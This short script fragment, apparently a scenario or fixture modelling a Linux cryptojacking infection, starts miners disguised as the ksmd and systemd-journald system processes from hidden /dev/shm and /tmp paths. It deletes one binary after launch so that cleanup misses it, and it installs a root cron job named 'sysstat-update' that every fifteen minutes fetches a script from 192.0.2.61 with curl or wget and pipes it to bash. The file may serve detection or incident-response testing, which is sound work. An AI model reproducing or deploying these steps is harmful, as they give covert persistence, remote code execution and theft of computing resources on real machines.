# Both hide from cleaning by path: one unlinks itself, the other never was a file.
mimic /dev/shm/.ksmd/ksmd /tmp/.load
start -x -d 10 -p "$POOL" /dev/shm/.ksmd/ksmd ksmd -o "stratum+tcp://$POOL" -u "$WALLET" -p x -k
start -m systemd-journal -c systemd-journal /tmp/.load systemd-journald --algo rx/0 --url "$POOL" --user "$WALLET2" --pass memory
sleep 0.3
rm -f /tmp/.load
put /etc/cron.d/sysstat-update <<'CRON'
*/15 * * * * root (curl -fsSL http://192.0.2.61/ks.sh || wget -q -O- http://192.0.2.61/ks.sh) | bash >/dev/null 2>&1
CRON
